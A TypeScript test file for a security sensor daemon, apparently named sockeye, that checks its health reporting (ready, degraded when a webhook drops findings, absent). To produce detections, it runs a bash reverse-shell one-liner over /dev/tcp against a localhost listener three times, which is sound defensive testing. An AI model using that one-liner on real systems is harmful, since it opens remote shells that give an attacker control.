/**
 * Health as probes see it: `sockeye status` (the unix socket beside the instance lock) and
 * /healthz, /readyz on the metrics endpoint. All clear → ready; an output that drops findings
 * → still ready, degraded, with the reason; no daemon → one line, exit 1.
 */
import { afterEach, describe, expect, it } from "vitest";
import { spawn, type ChildProcess } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { kernelTier, run, tcpListener } from "./harness.js";

const tier = kernelTier();
const CLI = "dist/cli/main.js";

interface Report { status: string; ready: boolean; degraded: boolean; reasons: string[] }

async function until(check: () => boolean | Promise<boolean>, what: string, timeoutMs = 15_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await check())) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

const status = async (...flags: string[]) => run(process.execPath, [CLI, "status", ...flags]);

describe.runIf(tier.run)("kernel: health", () => {
  let daemon: ChildProcess | undefined;
  afterEach(() => {
    if (daemon?.exitCode === null) daemon.kill("SIGKILL");
  });

  it("ready when all is clear, degraded with the reason when an output drops findings, and says when no daemon runs", async () => {
    const dir = mkdtempSync(join(tmpdir(), "sockeye-health-"));
    const config = join(dir, "sockeye.toml");
    // A webhook nobody listens on, with room for one finding: the next ones are dropped.
    writeFileSync(config, ['[output]', 'stdout = "json"', "[output.webhook]", 'url = "http://127.0.0.1:1/ingest"', "max_queue = 1", "max_attempts = 1",
      "[metrics]", "stats_interval_s = 0", 'prometheus_listen = "127.0.0.1:0"'].join("\n"), { mode: 0o600 });
    daemon = spawn(process.execPath, [CLI, "run", "--config", config], { stdio: ["ignore", "ignore", "pipe"] });
    let stderr = "";
    daemon.stderr!.on("data", (d) => (stderr += d));
    const exited = new Promise<number | null>((resolve) => daemon!.on("exit", (code) => resolve(code)));
    await until(() => stderr.includes('"message":"sensor ready"') || daemon!.exitCode !== null, "ready");
    const metrics = /"metrics":"(http:\/\/[^"]+)\/metrics"/.exec(stderr)?.[1];
    expect(metrics, stderr).toBeDefined();

    const clear = await status();
    expect(clear.stdout).toBe("ready\n");
    expect(clear.status).toBe(0);
    expect((await fetch(`${metrics}/healthz`)).status).toBe(200);
    const readyz = await fetch(`${metrics}/readyz`);
    expect(readyz.status).toBe(200);
    expect(await readyz.json()).toMatchObject({ status: "ready", live: true, ready: true, degraded: false, reasons: [] });

    // Three reverse shells: three findings for a webhook queue of one.
    const listener = await tcpListener("127.0.0.1", "exit\n");
    for (let i = 0; i < 3; i++) await run("timeout", ["-s", "KILL", "5", "bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`]);
    await listener.close();

    let report: Report | undefined;
    await until(async () => {
      const r = await status("--json");
      report = JSON.parse(r.stdout) as Report;
      return report.degraded;
    }, "degraded", 10_000);
    expect(report).toMatchObject({ status: "degraded", ready: true, degraded: true });
    expect(report!.reasons.join("; ")).toMatch(/output\/webhook (queue_full|retries_exhausted): \d+ in the last 60 s/);
    const degraded = await status("--probe", "ready");
    expect(degraded.status).toBe(0);
    expect(degraded.stdout).toMatch(/^degraded: output\/webhook /);
    expect(await (await fetch(`${metrics}/readyz`)).json()).toMatchObject({ ready: true, degraded: true });

    daemon.kill("SIGTERM");
    expect(await exited).toBe(0);
    const none = await status();
    expect(none.status).toBe(1);
    expect(none.stderr.trimEnd().split("\n")).toEqual(["sockeye: no sockeye run is active on this host (/run/sockeye/status.sock)"]);
  }, 60_000);
});
